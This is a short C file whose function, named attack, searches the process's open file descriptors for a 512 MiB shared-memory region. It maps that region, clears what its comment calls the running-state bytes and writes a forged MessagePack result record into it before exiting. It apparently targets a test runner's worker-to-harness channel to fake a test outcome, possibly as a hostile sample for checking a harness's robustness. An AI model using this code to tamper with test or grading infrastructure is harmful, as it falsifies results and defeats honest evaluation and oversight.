// Forges the record of a case that is none of this run.
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

// A record as workers write them: length, then MessagePack.
static void forge(char *region, const char *record, uint64_t size, const char *filler, uint64_t more) {
    uint64_t length = size + more, used = 8 + length;
    memcpy(region + 64, &length, 8);
    memcpy(region + 72, record, size);
    memset(region + 72 + size, *filler, more);
    memcpy(region, &used, 8);
    _exit(0);
}

int attack(int n) {
    struct stat seen;
    for (int file = 3; file < 128 * n; file++) {
        if (fstat(file, &seen) != 0 || seen.st_size != 1 << 29) continue;
        char *region = mmap(0, 1 << 20, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
        if (region == MAP_FAILED) continue;
        memset(region + 8, 0, 16); // and says that none runs
        forge(region, "\x98\xcd\x7f\xff\x00\x01\x01\x01\x00\x00\xc4\x01\x00", 13, "x", 0);
    }
    return 0;
}
